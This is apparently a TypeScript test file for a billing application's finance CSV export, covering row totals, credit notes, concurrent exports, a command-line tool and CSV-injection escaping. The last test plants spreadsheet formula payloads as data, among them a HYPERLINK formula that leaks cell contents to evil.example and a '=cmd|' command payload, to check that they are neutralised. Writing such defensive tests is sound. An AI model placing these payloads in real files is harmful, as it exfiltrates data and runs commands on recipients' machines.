import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { allDocuments, billingWorld, type Json, runQuarter } from './support/billing.js';
import { bearer, createTestApp, type TestApp } from './support/test-app.js';

const run = promisify(execFile);

const HEADER =
  'document_number,document_type,issue_date,due_date,customer_code,customer_name,po_number,budget_reference,description,quantity,unit_price,net_amount,vat_amount,gross_amount';

/** A minimal RFC 4180 reader for the assertions. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      (row = []), (field = ''), i++;
    } else field += c;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

/** '-540.00' → -54000, exactly (no floating point). */
const pence = (pounds: string) => {
  const [, sign, whole, fraction] = /^(-?)(\d+)\.(\d{2})$/.exec(pounds)!;
  return (sign ? -1 : 1) * (Number(whole) * 100 + Number(fraction));
};

describe('finance export', () => {
  let t: TestApp;
  let w: Awaited<ReturnType<typeof billingWorld>>;
  let finance: Json & { token: string };
  const Q = '2026-Q4';

  beforeAll(async () => {
    t = await createTestApp({ env: { OUTBOX_SWEEP_INTERVAL_MS: '500' } });
    w = await billingWorld(t);
    finance = await w.f.user('finance');
  });
  afterAll(() => t?.close());

  const exportNow = () => t.api().post('/api/v1/finance-exports').set(bearer(finance.token));
  const csvOf = async (id: string) => {
    const res = await t.api().get(`/api/v1/finance-exports/${id}/file`).set(bearer(finance.token)).buffer(true)
      .parse((response, done) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (c: string) => (text += c));
        response.on('end', () => done(null, text));
      });
    return res;
  };
  const exportCount = async () => (await t.db.query(`SELECT count(*)::int AS n FROM finance_exports`)).rows[0].n as number;
  const exported = async () =>
    (await t.db.query(`SELECT document_id, count(*)::int AS times FROM finance_export_documents GROUP BY document_id`)).rows as Array<{ document_id: string; times: number }>;

  it('exports every issued document once, as CSV rows per line per budget reference, credit notes negative', async () => {
    const a = await w.place({ reference: 'PB, "quoted"' });
    await w.place({ reference: 'PB-2' });
    await w.place({ commissionerId: w.essex.id, reference: 'ESX-1' });
    await w.place({ type: 'direct_payment', reference: 'DP-1', holderName: 'Sam "Jo" Smith, senior' });
    await runQuarter(t, Q);
    await t.api().post(`/api/v1/registrations/${a.registration.id}/withdraw`).set(bearer(t.adminToken)).send({ reason: 'x', effectiveOn: '2026-09-02' });
    await runQuarter(t, Q);
    const documents = await allDocuments(t);
    expect(documents.map((d) => d.kind).sort()).toEqual(['credit_note', 'invoice', 'invoice', 'invoice']);

    const res = await exportNow();
    expect(res.status).toBe(201);
    const signedTotal = documents.reduce((s, d) => s + (d.kind === 'invoice' ? d.totalPence : -d.totalPence), 0);
    expect(res.body).toMatchObject({ documentCount: 4, totalPence: signedTotal, rowCount: 5 });
    expect(typeof res.body.id).toBe('string');

    const file = await csvOf(res.body.id);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = parseCsv(file.body as string);
    expect(rows[0].join(',')).toBe(HEADER);
    const body = rows.slice(1).map((r) => Object.fromEntries(HEADER.split(',').map((h, i) => [h, r[i]])));
    expect(body).toHaveLength(5);
    expect(body.every((r) => Object.keys(r).length === 14 && r.quantity === '1')).toBe(true);

    // rows add up exactly to each document's totals, credit notes negative
    for (const d of documents) {
      const mine = body.filter((r) => r.document_number === d.number);
      const sign = d.kind === 'invoice' ? 1 : -1;
      expect(mine.reduce((s, r) => s + pence(r.net_amount), 0)).toBe(sign * d.netPence);
      expect(mine.reduce((s, r) => s + pence(r.vat_amount), 0)).toBe(sign * d.vatPence);
      expect(mine.reduce((s, r) => s + pence(r.gross_amount), 0)).toBe(sign * d.totalPence);
      expect(mine.map((r) => r.budget_reference).sort()).toEqual(d.lines.flatMap((l: Json) => l.budgetReferences).sort());
      expect(mine.every((r) => r.document_type === d.kind && r.issue_date === d.issueDate && r.due_date === d.dueDate)).toBe(true);
      expect(mine.every((r) => r.customer_name === d.recipient.name && r.customer_code === d.recipient.customerCode)).toBe(true);
      expect(mine.every((r) => r.po_number === (d.poNumber ?? ''))).toBe(true);
    }
    const credit = body.find((r) => r.document_type === 'credit_note')!;
    expect(credit).toMatchObject({ budget_reference: 'PB, "quoted"', unit_price: '-450.00', net_amount: '-450.00', vat_amount: '-90.00', gross_amount: '-540.00', po_number: 'PO-CAMBS-1' });
    expect(body.find((r) => r.budget_reference === 'DP-1')).toMatchObject({ customer_name: 'Sam "Jo" Smith, senior', net_amount: '450.00', gross_amount: '540.00' });
    expect(body.find((r) => r.budget_reference === 'ESX-1')).toMatchObject({ unit_price: '500.00', vat_amount: '0.00', gross_amount: '500.00', po_number: '' });
    expect(file.body).toContain('"PB, ""quoted"""');

    // nothing new: no export is created (a daily job would leave an empty one a day), 200 instead of 201
    const exportsBefore = await exportCount();
    const again = await exportNow();
    expect(again.status).toBe(200);
    expect(again.body).toEqual({ id: null, documentCount: 0, totalPence: 0, rowCount: 0, createdAt: null });
    expect(await exportCount()).toBe(exportsBefore);
    expect((await exported()).every((e) => e.times === 1)).toBe(true);
  });

  it('puts each document in exactly one export when two exports run at the same moment', async () => {
    for (let i = 0; i < 6; i++) await w.place({ type: 'direct_payment', reference: `DP-RACE-${i}` });
    await runQuarter(t, Q);
    const before = (await exported()).length;
    const total = (await allDocuments(t)).length;
    const exportsBefore = await exportCount();
    const [x, y, z] = await Promise.all([exportNow(), exportNow(), exportNow()]);
    // one that found everything claimed by the others created nothing: 200 with id null
    for (const res of [x, y, z]) expect(res.status === 201 ? typeof res.body.id : res.body).toEqual(res.status === 201 ? 'string' : { id: null, documentCount: 0, totalPence: 0, rowCount: 0, createdAt: null });
    const created = [x, y, z].filter((r) => r.status === 201);
    expect(created.length).toBeGreaterThanOrEqual(1);
    expect(await exportCount()).toBe(exportsBefore + created.length);
    expect(x.body.documentCount + y.body.documentCount + z.body.documentCount).toBe(total - before);
    const rows = await exported();
    expect(rows).toHaveLength(total);
    expect(rows.every((e) => e.times === 1)).toBe(true);
    const files = await Promise.all(created.map((r) => csvOf(r.body.id)));
    const numbers = files.flatMap((f) => [...new Set(parseCsv(f.body as string).slice(1).map((r) => r[0]))]);
    expect(numbers).toHaveLength(total - before);
    expect(new Set(numbers).size).toBe(total - before);
  });

  it('runs from the command line for the finance team’s scheduler', async () => {
    await w.place({ type: 'direct_payment', reference: 'DP-CLI' });
    await runQuarter(t, Q);
    const dir = await mkdtemp(join(tmpdir(), 'finance-export-'));
    try {
      const out = join(dir, 'export.csv');
      const env = { ...process.env, DATABASE_URL: t.databaseUrl, LOG_LEVEL: 'silent' };
      const { stdout } = await run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js', '--out', out], { env });
      expect(stdout).toMatch(/^Finance export [0-9a-f-]{36}: 1 documents, 1 rows, total £540\.00 → /);
      const rows = parseCsv(await readFile(out, 'utf8'));
      expect(rows).toHaveLength(2);
      expect(rows[1][7]).toBe('DP-CLI');
      // nothing left: no export is created, the file holds the header alone, still a success
      const exportsBefore = await exportCount();
      const { stdout: empty } = await run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js', '--out', out], { env });
      expect(empty).toMatch(/^Nothing to export: every issued document is already in an export\. Wrote the header only → /);
      expect(await readFile(out, 'utf8')).toBe(`${HEADER}\r\n`);
      expect(await exportCount()).toBe(exportsBefore);
      // a failure exits non-zero
      await expect(run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js'], { env })).rejects.toMatchObject({ code: 2 });
      await expect(
        run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js', '--out', join(dir, 'missing-dir', 'x.csv')], { env }),
      ).rejects.toMatchObject({ code: 1 });
      await expect(
        run(process.execPath, ['dist/src/finance-exports/finance-export-cli.js', '--out', out, '--id', '00000000-0000-7000-8000-000000000000'], { env }),
      ).rejects.toMatchObject({ code: 1 });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('answers 404 for an unknown export and 400 for a malformed id', async () => {
    expect((await t.api().get('/api/v1/finance-exports/00000000-0000-7000-8000-000000000000/file').set(bearer(finance.token))).status).toBe(404);
    expect((await t.api().get('/api/v1/finance-exports/nope/file').set(bearer(finance.token))).status).toBe(400);
    const list = await t.api().get('/api/v1/finance-exports').set(bearer(finance.token));
    expect(list.status).toBe(200);
    expect(list.body.items.length).toBeGreaterThanOrEqual(3); // the exports that held documents (nothing to export creates none)
  });
});

describe('finance export: CSV injection (OWASP)', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp({ env: { BILLING_DISPATCH_INTERVAL_MS: '500' } });
  });
  afterAll(() => t?.close());

  it('writes names, references and descriptions a spreadsheet would run as formulas as text, and amounts as numbers', async () => {
    const w = await billingWorld(t);
    const finance = await w.f.user('finance');
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Arts Pioneers")';
    expect((await t.api().patch(`/api/v1/programmes/${w.programme.id}`).set(bearer(t.adminToken)).send({ name: hyperlink })).status).toBe(200);
    const first = await w.place({ type: 'direct_payment', reference: 'DP-EQ', holderName: '=1+2' });
    await w.place({ type: 'direct_payment', reference: 'DP-PLUS', holderName: '+SUM(A1:A9)' });
    await w.place({ type: 'direct_payment', reference: 'DP-AT', holderName: '@cmd' });
    await w.place({ reference: '=cmd|"/c calc"!A1' });
    await runQuarter(t, '2026-Q4');
    // a backdated withdrawal: a credit note, whose amounts are negative numbers
    await t.api().post(`/api/v1/registrations/${first.registration.id}/withdraw`).set(bearer(t.adminToken)).send({ reason: 'x', effectiveOn: '2026-09-02' });
    await runQuarter(t, '2026-Q4');

    const created = await t.api().post('/api/v1/finance-exports').set(bearer(finance.token));
    expect(created.status).toBe(201);
    const file = await t.api().get(`/api/v1/finance-exports/${created.body.id}/file`).set(bearer(finance.token)).buffer(true)
      .parse((response, done) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (c: string) => (text += c));
        response.on('end', () => done(null, text));
      });
    const text = file.body as string;
    const rows = parseCsv(text).slice(1).map((r) => Object.fromEntries(HEADER.split(',').map((h, i) => [h, r[i]])));
    expect(rows.map((r) => r.customer_name)).toEqual(expect.arrayContaining(["'=1+2", "'+SUM(A1:A9)", "'@cmd"]));
    expect(rows.map((r) => r.budget_reference)).toContain(`'=cmd|"/c calc"!A1`);
    expect(text).toContain(`"'=cmd|""/c calc""!A1"`);
    for (const row of rows) {
      // an invoice line is described by the programme's name (a credit note's by "Credit: " and the name)
      const described = row.document_type === 'invoice' ? row.description.startsWith(`'${hyperlink}`) : row.description.startsWith(`Credit: ${hyperlink}`);
      expect({ description: row.description, described }).toEqual({ description: row.description, described: true });
      // no text cell starts with a formula character
      for (const h of ['customer_code', 'customer_name', 'po_number', 'budget_reference', 'description']) expect(row[h]).not.toMatch(/^[=+\-@\t\r]/);
      for (const h of ['unit_price', 'net_amount', 'vat_amount', 'gross_amount']) expect(row[h]).toMatch(/^-?\d+\.\d{2}$/);
    }
    const credit = rows.find((r) => r.document_type === 'credit_note')!;
    expect(credit.customer_name).toBe("'=1+2");
    expect(credit.net_amount).toMatch(/^-\d+\.\d{2}$/);
  });
});
